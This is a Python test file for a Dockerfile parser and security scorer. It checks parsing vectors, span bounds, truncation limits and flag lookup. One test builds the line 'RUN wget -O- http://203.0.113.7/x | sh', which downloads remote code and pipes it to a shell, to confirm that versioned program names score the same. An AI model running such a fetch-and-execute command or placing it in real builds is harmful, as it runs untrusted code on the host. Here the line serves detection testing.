"""Reading a Dockerfile: vectors, then what holds for any text."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings

from t1612core import score_dockerfile
from t1612core.container.dockerfile.limits import LIMIT, MARKS, read_to
from t1612core.container.dockerfile.reader import Dockerfile, Instruction, parse

from ..conftest import examples
from .texts import ANY_TEXT, dockerfiles
from .vectors_file import Vector, params


def carriers(read: Dockerfile) -> list[Instruction]:
    """Give the instructions, those behind ONBUILD in place of it."""
    return [instruction.trigger or instruction for instruction in read.instructions]


SEEN: dict[str, Callable[[Dockerfile], Any]] = {
    "instructions": lambda read: [
        [i.keyword, list(i.arguments), i.line, i.end_line] for i in read.instructions
    ],
    "directives": lambda read: [[d.name, d.value, d.line] for d in read.directives],
    "escape": lambda read: read.escape,
    "flags": lambda read: [[f.name, f.value] for i in carriers(read) for f in i.flags],
    "exec_forms": lambda read: [i.line for i in read.instructions if i.exec_form is not None],
    "pairs": lambda read: [list(pair) for i in read.instructions for pair in i.pairs],
    "unknown": lambda read: [i.line for i in read.instructions if not i.is_known],
    "triggers": lambda read: [
        [i.trigger.keyword, list(i.trigger.arguments)] for i in read.instructions if i.trigger
    ],
    "stages": lambda read: [[s.image, s.name, s.platform, s.line] for s in read.stages],
    "stage_of": lambda read: [i.stage for i in read.instructions],
    "heredocs": lambda read: [
        [h.name, h.content.text, h.is_expanded] for i in carriers(read) for h in i.heredocs
    ],
    "scripts": lambda read: [i.script.text for i in read.instructions if i.keyword == "RUN"],
}


@pytest.mark.parametrize("vector", params("reading"))
def test_reads_as_the_vector_says(vector: Vector) -> None:
    """Each field that a vector expects is what the reader sees."""
    read = parse(vector["input"])

    for field, expected in vector["expected"].items():
        assert expected == SEEN[field](read), field


@given(ANY_TEXT | dockerfiles())
@settings(max_examples=examples(100))
def test_any_text_is_read_and_every_span_is_inside_it(text: str) -> None:
    """Nothing raises, and nothing points outside the text or before its own line."""
    read = parse(text)

    lines = text.count("\n") + 1
    for instruction in read.instructions:
        start, end = instruction.span
        assert 0 <= start < end <= len(text)
        assert 1 <= instruction.line <= instruction.end_line <= lines
        assert text.count("\n", 0, start) + 1 >= instruction.line
        assert -1 <= instruction.stage < max(len(read.stages), 0) or not read.stages
        for flag in instruction.flags:
            assert text[slice(*flag.span)].startswith("--")
        assert instruction.arguments is not None
        assert instruction.pairs is not None


@given(dockerfiles())
@settings(max_examples=examples(100))
def test_values_stand_in_the_text_letter_by_letter(text: str) -> None:
    """Every character of a value is found where its span says."""
    for instruction in carriers(parse(text)):
        for source in (instruction.whole, *(h.content for h in instruction.heredocs)):
            for at in range(len(source.text)):
                start, end = source.locate(at, at + 1)
                assert source.text[at] == text[start:end]


@given(dockerfiles())
@settings(max_examples=examples(100))
def test_what_was_joined_reads_the_same_when_it_is_written_joined(text: str) -> None:
    """An instruction on one line, its flags left out, is read as it was."""
    read = parse(text)
    plain = [
        (i.keyword, i.value.text)
        for i in read.instructions
        if "<<" not in i.value.text and not i.value.text.endswith(("\\", "`"))
    ]
    again = parse("".join(f"{keyword} -- {value}\n" for keyword, value in plain))

    assert plain == [(i.keyword, i.value.text) for i in again.instructions]


def test_the_limit_is_marked() -> None:
    """What is longer than the limit is cut there, and says so."""
    text = "FROM a\n#" + "x" * (LIMIT - 9) + "\nRUN b\n"
    read = parse(text)

    assert [True, ["FROM"]] == [read.is_truncated, [i.keyword for i in read.instructions]]
    assert not parse(text[:LIMIT]).is_truncated


def test_the_last_flag_of_a_name_counts() -> None:
    """``flag`` gives the last value, and ``None`` for what is not there."""
    (run,) = parse("RUN --network=none --network=host --x a").instructions

    assert ["host", None, None] == [run.flag("network"), run.flag("x"), run.flag("y")]


@pytest.mark.parametrize("program", ["wget1", "WGET1", "wget1.24", "curl7", "python3.11"])
def test_a_program_with_its_version_does_what_it_does_without(program: str) -> None:
    line = "RUN {} -O- http://203.0.113.7/x | sh\n"
    plain = score_dockerfile(line.format(program.lower().rstrip("0123456789.")))

    assert score_dockerfile(line.format(program)).signals == plain.signals


@pytest.mark.parametrize(
    ("start", "mark", "each"),
    [("FROM a\nRUN ", "a;", 4), ("FROM a\nRUN ", "a ", 1), ("", "RUN a\n", 5), ("RUN ", "$(", 5)],
)
def test_a_text_is_read_as_far_as_its_marks_are_paid(start: str, mark: str, each: int) -> None:
    """What may begin a command costs four, what may begin a word one; the mark too much ends it."""
    paid = start + mark * (MARKS // each - 8)

    assert read_to(paid) == len(paid)
    assert MARKS // each - 12 < read_to(paid * 2) / len(mark) <= MARKS // each + 12
    assert parse(paid * 2).is_truncated
    assert parse(paid * 2).end == read_to(paid * 2) < len(paid * 2)


def test_plain_letters_are_read_up_to_the_limit() -> None:
    assert [LIMIT, 7] == [read_to("x" * (LIMIT + 1)), read_to("FROM a\n")]
